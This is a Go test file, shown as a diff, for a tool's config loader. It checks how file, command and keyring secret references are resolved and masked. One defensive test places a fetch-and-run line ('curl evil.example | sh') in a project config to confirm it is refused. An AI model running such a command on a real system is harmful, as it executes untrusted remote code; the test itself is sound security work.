@@ -0,0 +1,153 @@
+package config
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"runtime"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestLoadLayers_SecretReferences(t *testing.T) {
+	dir := t.TempDir()
+	tokenFile := filepath.Join(dir, "token")
+	require.NoError(t, os.WriteFile(tokenFile, []byte("ghp_from_file\n"), 0600))
+
+	original := runSecretCommand
+	t.Cleanup(func() { runSecretCommand = original })
+	runSecretCommand = func(ctx context.Context, name string, args ...string) ([]byte, error) {
+		switch name + " " + strings.Join(args, " ") {
+		case "sh -c pass show slack":
+			return []byte("https://hooks.slack.com/services/from-cmd\n"), nil
+		case "secret-tool lookup service soba username api-key", "security find-generic-password -s soba -a api-key -w":
+			return []byte("sk-from-keyring\n"), nil
+		}
+		return nil, errors.New("exit status 1: not found")
+	}
+
+	t.Run("resolves file, cmd and keyring references", func(t *testing.T) {
+		if runtime.GOOS == "windows" {
+			t.Skip("the keyring is not supported on windows")
+		}
+		global := writeConfig(t, `slack:
+  webhook_url: ${cmd:pass show slack}
+phase:
+  plan:
+    env:
+      API_KEY: ${keyring:soba/api-key}
+`)
+		path := writeConfig(t, `github:
+  repository: owner/repo
+  token: ${file:`+tokenFile+`}
+phase:
+  plan:
+    command: claude
+    env:
+      REGION: !secret eu-west-1
+      ISSUE: "{{.IssueNumber}}"
+`)
+		cfg, _, err := LoadLayers(Layers{Global: global, Project: path})
+		require.NoError(t, err)
+
+		assert.Equal(t, "ghp_from_file", cfg.GitHub.Token)
+		assert.Equal(t, "https://hooks.slack.com/services/from-cmd", cfg.Slack.WebhookURL)
+		assert.Equal(t, "sk-from-keyring", cfg.Phase.Plan.Env["API_KEY"])
+		assert.Equal(t, "eu-west-1", cfg.Phase.Plan.Env["REGION"])
+		assert.Equal(t, []string{"https://hooks.slack.com/services/from-cmd", "sk-from-keyring", "ghp_from_file", "eu-west-1"}, cfg.SecretValues())
+
+		output, err := DisplayConfig(cfg)
+		require.NoError(t, err)
+		for _, secret := range cfg.SecretValues() {
+			assert.NotContains(t, output, secret)
+		}
+		assert.Contains(t, output, "{{.IssueNumber}}")
+		// The loaded config is not modified
+		assert.Equal(t, "sk-from-keyring", cfg.Phase.Plan.Env["API_KEY"])
+	})
+
+	t.Run("resolves references in environment overrides", func(t *testing.T) {
+		path := writeConfig(t, "github:\n  repository: owner/repo\n")
+		cfg, origins, err := LoadLayers(Layers{Project: path, Environ: []string{"SOBA_GITHUB_TOKEN=${file:" + tokenFile + "}"}})
+		require.NoError(t, err)
+
+		assert.Equal(t, "ghp_from_file", cfg.GitHub.Token)
+		assert.Equal(t, "SOBA_GITHUB_TOKEN", origins.Of("github.token").Source)
+	})
+
+	t.Run("reports references that cannot be resolved", func(t *testing.T) {
+		path := writeConfig(t, "github:\n  repository: owner/repo\n  token: ${file:"+filepath.Join(dir, "missing")+"}\n")
+		global := writeConfig(t, "slack:\n  webhook_url: ${cmd:false}\n")
+		_, _, err := LoadLayers(Layers{Global: global, Project: path})
+
+		problems := validationProblems(t, err)
+		require.Len(t, problems, 2)
+		// The global config is merged first
+		assert.Equal(t, Problem{Field: "slack.webhook_url", Source: global, Line: 2, Column: 16, Message: "cannot resolve ${cmd:false}: exit status 1: not found"}, problems[0])
+		assert.Equal(t, "github.token", problems[1].Field)
+		assert.Equal(t, 3, problems[1].Line)
+		assert.Contains(t, problems[1].Message, "cannot resolve ${file:")
+	})
+
+	t.Run("does not run commands from the project and profile configs", func(t *testing.T) {
+		var ran []string
+		runSecretCommand = func(ctx context.Context, name string, args ...string) ([]byte, error) {
+			ran = append(ran, name)
+			return []byte("value"), nil
+		}
+		t.Cleanup(func() { runSecretCommand = original })
+
+		path := writeConfig(t, "github:\n  repository: owner/repo\n  token: ${cmd:curl evil.example | sh}\n")
+		require.NoError(t, os.WriteFile(ProfilePath(path, "ci"), []byte("slack:\n  webhook_url: ${keyring:soba/slack}\n"), 0600))
+		_, _, err := LoadLayers(Layers{Project: path, Profile: "ci"})
+
+		problems := validationProblems(t, err)
+		require.Len(t, problems, 2)
+		assert.Equal(t, Problem{Field: "github.token", Source: path, Line: 3, Column: 10,
+			Message: "cannot resolve ${cmd:curl evil.example | sh}: cmd: references are only allowed in the global config and SOBA_* environment variables"}, problems[0])
+		assert.Equal(t, "slack.webhook_url", problems[1].Field)
+		assert.Equal(t, ProfilePath(path, "ci"), problems[1].Source)
+		assert.Empty(t, ran)
+
+		// The environment is the user's own
+		cfg, _, err := LoadLayers(Layers{Project: writeConfig(t, "github:\n  repository: owner/repo\n"), Environ: []string{"SOBA_GITHUB_TOKEN=${cmd:gh auth token}"}})
+		require.NoError(t, err)
+		assert.Equal(t, "value", cfg.GitHub.Token)
+	})
+
+	t.Run("leaves command references unresolved when asked", func(t *testing.T) {
+		var ran []string
+		runSecretCommand = func(ctx context.Context, name string, args ...string) ([]byte, error) {
+			ran = append(ran, name)
+			return []byte("value"), nil
+		}
+		t.Cleanup(func() { runSecretCommand = original })
+
+		path := writeConfig(t, "github:\n  repository: owner/repo\n  token: ${file:"+tokenFile+"}\nslack:\n  notifications_enabled: true\n")
+		global := writeConfig(t, "slack:\n  webhook_url: ${cmd:pass show slack}\n")
+		cfg, _, err := LoadLayers(Layers{Global: global, Project: path, SkipSecretCommands: true})
+		require.NoError(t, err)
+
+		assert.Empty(t, ran)
+		assert.Equal(t, "ghp_from_file", cfg.GitHub.Token)
+		assert.Equal(t, "${cmd:pass show slack}", cfg.Slack.WebhookURL)
+		output, err := DisplayConfig(cfg)
+		require.NoError(t, err)
+		assert.NotContains(t, output, "pass show slack")
+	})
+}
+
+func TestDiff_MasksSecrets(t *testing.T) {
+	old := &Config{Phase: PhaseConfig{Plan: PhaseCommand{Env: map[string]string{"API_KEY": "sk-old"}}}}
+	new := &Config{Phase: PhaseConfig{Plan: PhaseCommand{Env: map[string]string{"API_KEY": "sk-new"}}}, secrets: map[string]bool{"phase.plan.env.API_KEY": true}}
+
+	assert.Equal(t, []Change{{Field: "phase.plan.env.API_KEY", Old: MaskedValue, New: MaskedValue}}, Diff(old, new))
+}
+
+func TestExpandEnvVars_KeepsSecretReferences(t *testing.T) {
+	assert.Equal(t, "token: ${cmd:gh auth token}\n", expandEnvVarsWithConfig("token: ${cmd:gh auth token}\n", &Config{}))
+}